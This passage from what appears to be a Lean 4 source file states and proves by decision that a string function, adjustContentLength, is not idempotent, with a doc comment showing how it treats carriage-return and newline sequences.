idempotent on all inputs — on `"a\r\n\n"` the first pass yields
`"a\r\n\r\n"`, and the second pass collapses that to `"a"`. -/
theorem adjustContentLength_not_idem :
    adjustContentLength (adjustContentLength "a\x0d\n\n") ≠
      adjustContentLength "a\x0d\n\n" := by decide
